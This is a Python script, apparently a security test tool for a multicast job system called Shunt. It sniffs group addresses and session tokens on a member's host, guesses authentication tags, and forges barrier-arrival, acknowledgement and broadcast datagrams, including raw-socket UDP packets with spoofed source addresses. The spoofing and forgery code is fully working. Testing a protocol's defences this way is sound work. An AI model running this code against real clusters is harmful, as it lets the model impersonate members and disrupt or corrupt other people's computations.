#!/usr/bin/env python3
"""Somebody on a member's host who interferes with the job there (forged.c), by what he hears in its multicast group.

  forger.py tcp OWN SECONDS ADDRESS:PORT...   needs no rights: arrivals at barriers and confirmations of broadcasts, in the name of the
                                              member of this host (whose address is OWN), said to whoever answers there as Shunt does
  forger.py udp OWN SECONDS                   root: the same as datagrams, and data, in the name of every member

He reads in /proc/net/udp where the group is, and the token off the datagrams; the key he does not know. Formats: native/engines/multicast/packet.hpp,
native/net/tcp/handshake.hpp, native/net/recovery/protocol.hpp. The last line says what was forged."""
import os
import select
import socket
import struct
import sys
import time

HEADER = struct.Struct("<QIIBBH")        # token, operation, sequence, kind, flags, sender
DATA, END, ACK, ARRIVE, LAST = 1, 3, 6, 8, 1
CHALLENGE, CHALLENGE_BYTES, ANSWER_BYTES = b"SCH1", 20, 16
CONFIRMATION, ARRIVED = 1 << 62, 1 << 59
MEMBERS, ME, ROOT = 3, 1, 0              # this host's member; the root of barriers and of long broadcasts
FORGED = b"\xee" * 1000                  # a short broadcast
AHEAD = range(0, 4)                      # relative to the last operation heard: the one under way, and the next ones


class Ear:
    """What is said in the groups of this host: the token, the last operation, and where each member sends from."""

    def __init__(self, own):
        self.token, self.operation, self.member, self.group = None, 0, {}, None
        self.sockets = {}
        for line in open("/proc/net/udp").readlines()[1:]:
            address, port = line.split()[1].split(":")
            place = socket.inet_ntoa(struct.pack("=I", int(address, 16))), int(port, 16)
            if 224 <= int(place[0].split(".")[0]) < 240:
                self.join(place, own)
            elif place[0] == own:
                self.member[ME] = place   # because this host does not receive its own datagrams

    def join(self, group, own):
        ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        ear.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ear.bind(group)
        ear.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group[0]) + socket.inet_aton(own))
        ear.setblocking(False)
        self.sockets[ear] = group

    def listen(self, seconds):
        end = time.monotonic() + seconds
        for ear in select.select(list(self.sockets), [], [], seconds)[0]:
            while time.monotonic() < end:
                try:
                    self.hear(ear, *ear.recvfrom(65536))
                except BlockingIOError:
                    break

    def hear(self, ear, datagram, source):
        if len(datagram) < HEADER.size or datagram[HEADER.size:].startswith(FORGED):
            return
        token, operation, _, kind, _, sender = HEADER.unpack(datagram[:HEADER.size])
        if kind in (DATA, END):
            self.token, self.operation, self.member[sender], self.group = token, operation, source, self.sockets[ear]

    def header(self, ahead, sequence, kind, flags, sender):
        return HEADER.pack(self.token, self.operation + ahead, sequence, kind, flags, sender)


def receive(way, count):
    heard = b""
    try:
        while len(heard) < count:
            more = way.recv(count - len(heard))
            if not more:
                break
            heard += more
    except OSError:
        pass
    return heard


def claims(token):
    """None at all; tags that are guessed."""
    head = b"SCL1" + struct.pack("<QII", token, ME, ROOT)
    return [b"", head + bytes(24), head + os.urandom(24)]


def requests(ear):
    of = [struct.pack("<QIIIQQ", ear.token, 0, ear.operation + ahead, ME, ARRIVED, 16) for ahead in AHEAD]
    return of + [struct.pack("<QIIIQQ", ear.token, 0, ear.operation + ahead, ME, CONFIRMATION, 0) for ahead in AHEAD]


def forge_by_tcp(ear, endpoint, claim):
    """Returns whether that was a listener of Shunt's, and whether it has admitted us."""
    host, port = endpoint.split(":")
    with socket.create_connection((host, int(port)), 2) as way:
        way.settimeout(0.3)
        if not receive(way, CHALLENGE_BYTES).startswith(CHALLENGE):
            return False, False
        way.settimeout(0.05)
        ear.listen(0.001)
        way.sendall(claim + b"".join(requests(ear)))
        return True, len(receive(way, ANSWER_BYTES)) > 0


def tcp(ear, end, endpoints):
    forged, admitted, doors = 0, 0, set(endpoints)
    while time.monotonic() < end:
        for endpoint in sorted(doors):
            for claim in claims(ear.token):
                try:
                    is_door, is_in = forge_by_tcp(ear, endpoint, claim)
                except OSError:
                    is_door, is_in = True, False   # closed while the forger was writing
                if not is_door:
                    doors.discard(endpoint)
                    break
                forged += len(requests(ear))
                admitted += is_in
        if not doors:
            sys.exit("nobody answers as Shunt does")
    print(f"forged {forged} requests at {len(doors)} doors, admitted {admitted} times")


def spoof(raw, source, destination, payload):
    udp_header = struct.pack("!HHHH", source[1], destination[1], 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 1, 17, 0, socket.inet_aton(source[0]), socket.inet_aton(destination[0]))
    try:
        raw.sendto(ip + udp_header + payload, (destination[0], 0))
    except OSError:
        pass   # a full queue


def udp(ear, end):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    while len(ear.member) < MEMBERS:
        ear.listen(0.1)
        if time.monotonic() > end:
            sys.exit(f"only these members were heard: {ear.member}")
    forged = 0
    while time.monotonic() < end:
        ear.listen(0.003)
        for tag in (b"", os.urandom(8)):
            for ahead in AHEAD:
                for sender in range(MEMBERS):
                    spoof(raw, ear.member[sender], ear.group, ear.header(ahead, 0, DATA, LAST, sender) + FORGED + tag)
                for kind in (ARRIVE, ACK):
                    spoof(raw, ear.member[ME], ear.member[ROOT], ear.header(ahead, ROOT, kind, 0, ME) + tag)
                forged += MEMBERS + 2
    print(f"forged {forged} datagrams")


def main(how, own, seconds, endpoints):
    ear = Ear(own)
    give_up = time.monotonic() + 10
    while ear.token is None:
        ear.listen(0.1)
        if time.monotonic() > give_up:
            sys.exit(f"nothing was heard in {list(ear.sockets.values())}")
    end = time.monotonic() + seconds
    tcp(ear, end, endpoints) if how == "tcp" else udp(ear, end)


main(sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4:])
